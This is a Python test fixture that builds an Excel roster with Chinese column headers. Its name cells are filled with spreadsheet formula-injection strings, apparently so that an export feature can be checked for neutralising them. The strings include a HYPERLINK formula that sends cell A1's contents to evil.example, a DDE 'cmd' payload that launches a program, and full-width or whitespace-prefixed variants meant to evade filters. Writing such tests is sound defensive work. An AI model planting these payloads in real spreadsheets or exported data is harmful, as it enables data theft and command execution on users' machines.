"""Texts a spreadsheet could take for a formula (issue 20 class 5), and a roster whose cells
carry them — as text and as real formula cells — for the --errors workbook to copy."""

from __future__ import annotations

from pathlib import Path

import openpyxl

FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "＝1+1",
    "  =cmd|' /C calc'!A0",
    "\t=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "＋1",
    "＠SUM(1)",
    "－1",
    "\u3000=1",
)


def roster_with_formulas(path: Path, rows: list[list[object]]) -> Path:
    """A roster (header 姓名/身份证号码/…) whose name cells are formulas and formula-like text."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["序号", "姓名", "身份证号码", "性别", "手机号", "人员类别"])
    for i, row in enumerate(rows):
        sheet.append(row)
        sheet.cell(row=i + 2, column=2).value = FORMULA_TEXTS[i % len(FORMULA_TEXTS)]
    sheet.cell(row=len(rows) + 2, column=2).value = '=HYPERLINK("http://evil.example","x")'
    book.save(path)
    return path
